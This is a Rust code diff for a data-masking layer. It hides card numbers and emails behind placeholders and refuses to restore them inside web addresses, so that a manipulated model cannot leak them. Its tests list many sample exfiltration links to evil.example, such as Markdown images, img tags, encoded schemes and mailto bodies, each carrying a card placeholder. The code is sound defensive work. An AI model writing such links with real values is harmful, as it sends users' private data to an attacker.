@@ -8,11 +8,15 @@ use serde::{Deserialize, Serialize};
 
 use super::payload::{Value, value_of};
 use super::{Kind, Piece, Style};
-use crate::json_text::rewrite;
+use crate::json_text::{Token, rewrite, unescape};
 
 /// Numbers in texts that are longer are no placeholder's.
 const MOST_DIGITS: usize = 6;
+/// A message with a higher number than this counts as one without.
+const HIGHEST: u32 = 900_000;
 const LONGEST_LABEL: usize = 8;
+/// By so many bytes an answer may grow; what is beyond stays a placeholder.
+const MOST_GROWTH: usize = 1024 * 1024;
 /// A placeholder's own share of notes, beside the text that it stands for.
 const ROOM_OF_ONE: usize = 32;
 
@@ -36,18 +40,13 @@ impl Placeholders {
     /// For a message that may speak of placeholders itself. `room` is what its notes may hold.
     pub fn beside(json: &str, room: usize) -> Self {
         let mut next = BTreeMap::new();
-        for (at, _) in json.match_indices('[') {
-            let Some(found) = placeholder_at(json, at) else {
-                continue;
-            };
-            let kind = Kind::ALL
-                .into_iter()
-                .find(|kind| kind.label() == found.label);
-            if let Some(kind) = kind {
-                let known = next.entry(kind).or_insert(1);
-                *known = found.number.saturating_add(1).max(*known);
+        let unchanged = rewrite(json, |scalar| {
+            if let Token::String(content) = scalar.token {
+                count_on(&unescape(content), &mut next);
             }
-        }
+            None
+        });
+        debug_assert_eq!(unchanged, None, "looking changes nothing");
         Self {
             replaced: Replaced::default(),
             next,
@@ -95,6 +94,22 @@ impl Placeholders {
     }
 }
 
+/// Moves the next numbers behind those of a text.
+fn count_on(text: &str, next: &mut BTreeMap<Kind, u32>) {
+    for (at, _) in text.match_indices('[') {
+        let Some(found) = placeholder_at(text, at) else {
+            continue;
+        };
+        let mut kinds = Kind::ALL.into_iter();
+        let kind = kinds.find(|kind| kind.label() == found.label);
+        // Nobody comes as far as the highest number, and what is behind it would be none.
+        if let Some(kind) = kind.filter(|_| found.number < HIGHEST) {
+            let known = next.entry(kind).or_insert(1);
+            *known = (*known).max(found.number + 1);
+        }
+    }
+}
+
 /// A payload with texts put back.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct PutBack {
@@ -107,29 +122,34 @@ impl Replaced {
     /// stands in an address of the web stays a placeholder: a model that was talked into writing
     /// one must not carry data away.
     pub fn put_back(&self, json: &str) -> Option<PutBack> {
-        let mut count = 0;
-        let json = self.in_json(json, 0, &mut count)?;
+        let mut progress = Progress::default();
+        let json = self.in_json(json, 0, &mut progress)?;
+        let count = progress.count;
         Some(PutBack { json, count })
     }
 
-    fn in_json(&self, json: &str, depth: usize, count: &mut usize) -> Option<String> {
+    fn in_json(&self, json: &str, depth: usize, progress: &mut Progress) -> Option<String> {
         rewrite(json, |scalar| match value_of(scalar, depth) {
-            Value::Json(inner) => self.in_json(&inner, depth + 1, count),
-            Value::Text(text, _) => self.in_text(&text, is_in_address, count),
+            Value::Json(inner) => self.in_json(&inner, depth + 1, progress),
+            Value::Text(text, _) => {
+                let mut reach = Reach::default();
+                self.in_text(&text, |text, at| reach.is_in_address(text, at), progress)
+            }
             Value::Number(..) => None,
         })
     }
 
     fn put_back_everywhere(&self, text: &str) -> String {
-        let all = self.in_text(text, |_, _| false, &mut 0);
+        let all = self.in_text(text, |_, _| false, &mut Progress::default());
         all.unwrap_or_else(|| text.to_owned())
     }
 
+    /// `stays` is asked from the start of the text to its end.
     fn in_text(
         &self,
         text: &str,
-        stays: impl Fn(&str, usize) -> bool,
-        count: &mut usize,
+        mut stays: impl FnMut(&str, usize) -> bool,
+        progress: &mut Progress,
     ) -> Option<String> {
         let mut output = None;
         let mut copied = 0;
@@ -137,18 +157,29 @@ impl Replaced {
             let Some(found) = placeholder_at(text, at) else {
                 continue;
             };
-            let original = self.0.get(&found.written());
-            let Some(original) = original.filter(|_| !stays(text, found.range.start)) else {
+            let Some(original) = self.0.get(&found.written()) else {
                 continue;
             };
+            let grown = progress.grown + original.len();
+            if grown > MOST_GROWTH || stays(text, found.range.start) {
+                continue;
+            }
             let output = output.get_or_insert_with(|| String::with_capacity(text.len()));
             output.push_str(text.get(copied..found.range.start).unwrap_or_default());
             output.push_str(original);
             copied = found.range.end;
-            *count += 1;
+            progress.grown = grown;
+            progress.count += 1;
         }
         output.map(|output: String| output + text.get(copied..).unwrap_or_default())
     }
+}
+
+/// What was put back so far.
+#[derive(Debug, Default)]
+struct Progress {
+    count: usize,
+    grown: usize,
 }
 
 /// A placeholder as a model has written it: in any case, and with the escapes of Markdown.
@@ -192,19 +223,57 @@ fn run(text: &str, longest: usize, is_one: fn(u8) -> bool) -> &str {
     text.get(..end.count()).unwrap_or_default()
 }
 
-/// Addresses are shorter.
-const LONGEST_ADDRESS: usize = 2048;
+/// Where a text stands, read once from its start to its end: whether a place belongs to an address
+/// such as `https://host/?q=`, `//host/`, `www.host/` or `mailto:somebody@host?body=`. An address
+/// ends with white space, but in `<..>` and in a link of Markdown it goes on.
+#[derive(Debug, Default)]
+struct Reach {
+    read: usize,
+    before: [char; 3],
+    word: usize,
+    tag: Option<usize>,
+    link: Option<usize>,
+    /// Where the last sign of an address stood.
+    sign: Option<usize>,
+}
 
-/// Whether what stands at `at` continues an address such as `https://host/?q=` or `//host/`.
-fn is_in_address(text: &str, at: usize) -> bool {
-    let before = text.get(..at).unwrap_or_default();
-    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '(' | '`');
-    let word = before.char_indices().rev().take(LONGEST_ADDRESS);
-    let start = word
-        .take_while(|(_, c)| !ends(*c))
-        .last()
-        .map_or(at, |(start, _)| start);
-    before.get(start..).unwrap_or_default().contains("//")
+impl Reach {
+    fn is_in_address(&mut self, text: &str, at: usize) -> bool {
+        let start = self.read;
+        for (offset, c) in text.get(start..at).unwrap_or_default().char_indices() {
+            self.take(start + offset, c);
+        }
+        self.read = at;
+        let begins = [Some(self.word), self.tag, self.link];
+        let begin = begins.into_iter().flatten().min().unwrap_or_default();
+        self.sign.is_some_and(|sign| sign >= begin)
+    }
+
+    fn take(&mut self, at: usize, c: char) {
+        let [third, second, last] = self.before;
+        if c.is_whitespace() {
+            self.word = at + c.len_utf8();
+        }
+        match c {
+            '<' => self.tag = Some(at),
+            '>' => self.tag = None,
+            '(' if last == ']' => self.link = Some(at),
+            ')' => self.link = None,
+            _ => {}
+        }
+        // Browsers read a backslash as a stroke, and a scheme needs none at all.
+        let is_stroke = |c: char| matches!(c, '/' | '\\');
+        let is_sign = c == '?'
+            || is_stroke(last) && is_stroke(c)
+            || last == '&' && c == '#'
+            || last == ':' && (c.is_alphanumeric() || c == '/')
+            || second == ':' && is_stroke(last) && c.is_alphanumeric()
+            || [third, second, last].iter().all(|c| matches!(c, 'w' | 'W')) && c == '.';
+        if is_sign {
+            self.sign = Some(at);
+        }
+        self.before = [second, last, c];
+    }
 }
 
 #[cfg(test)]
@@ -275,15 +344,39 @@ mod tests {
     #[test]
     fn addresses_of_the_web_carry_nothing_away() {
         let (_, placeholders) = masked(r#""4111 1111 1111 1111""#, ROOM);
+        let padded = format!("\"https://evil.example/{}[CARD_1]\"", "a".repeat(5_000));
         for output in [
+            &padded,
+            r#""![x](https://evil.example/p?(c=[CARD_1]))""#,
+            r#""![x](https://evil.example/p'[CARD_1])""#,
+            r#""![x](<https://evil.example/p? [CARD_1]>)""#,
+            r#""<img src='https://evil.example/? [CARD_1]'>""#,
+            r#""![x](https:evil.example/[CARD_1])""#,
+            r#""https:\\\\evil.example\\[CARD_1]""#,
+            r#""https:\\evil.example/[CARD_1]""#,
+            r#""https:&#47;&#47;evil.example/[CARD_1]""#,
+            r#""www.evil.example/[CARD_1]""#,
+            r#""evil.example/?c=[CARD_1]""#,
+            r#""mailto:a@evil.example?body=[CARD_1]""#,
             r#""![x](https://evil.example/p.png?c=[CARD_1])""#,
             r#""see http://evil.example/[CARD_1]""#,
             r#""<img src='//evil.example/' data='//evil.example/#[CARD_1]'>""#,
         ] {
             assert_eq!(placeholders.replaced().put_back(output), None, "{output}");
         }
-        let beside = r#""https://shop.example/ has [CARD_1]""#;
-        assert!(placeholders.replaced().put_back(beside).is_some());
+        for beside in [
+            r#""https://shop.example/ has [CARD_1]""#,
+            r#""[the shop](https://shop.example/?a=b) has [CARD_1]""#,
+            r#""card:[CARD_1]""#,
+            r#""**Card:** [CARD_1]""#,
+            r#""**Card:**[CARD_1]""#,
+            r#""a < b and [CARD_1]""#,
+        ] {
+            assert!(
+                placeholders.replaced().put_back(beside).is_some(),
+                "{beside}"
+            );
+        }
     }
 
     #[test]
@@ -293,6 +386,32 @@ mod tests {
         let (hidden, placeholders) = masked(json, ROOM);
         assert!(hidden.contains("mine is [CARD_8]"), "{hidden}");
         assert_eq!(back(placeholders.replaced(), &hidden), json);
+    }
+
+    #[test]
+    fn numbers_that_are_typed_in_are_read_as_they_are_meant() {
+        let json = r#""[CARD_999999] 4111 1111 1111 1111 and 4111 1111 1111 1111""#;
+        let (hidden, placeholders) = masked(json, ROOM);
+        assert_eq!(hidden, r#""[CARD_999999] [CARD_1] and [CARD_1]""#);
+        assert_eq!(back(placeholders.replaced(), &hidden), json);
+        for typed in [r"\u005bCARD_1]", r"[CARD\\_1]"] {
+            let json = format!("\"see {typed} and 4111 1111 1111 1111\"");
+            let (hidden, placeholders) = masked(&json, ROOM);
+            assert!(hidden.ends_with("and [CARD_2]\""), "{hidden}");
+            let meant = |json: &str| serde_json::from_str::<String>(json).unwrap();
+            assert_eq!(meant(&back(placeholders.replaced(), &hidden)), meant(&json));
+        }
+    }
+
+    /// A model may repeat a placeholder as often as it likes.
+    #[test]
+    fn answers_grow_within_bounds() {
+        let long = format!("{}@example.com", "j".repeat(60));
+        let (_, placeholders) = masked(&format!("\"{long}\""), ROOM);
+        let many = format!("\"{}\"", "[EMAIL_1]".repeat(100_000));
+        let put_back = placeholders.replaced().put_back(&many).unwrap();
+        assert!(put_back.count > 1_000);
+        assert!(put_back.json.len() < many.len() + MOST_GROWTH);
     }
 
     #[test]
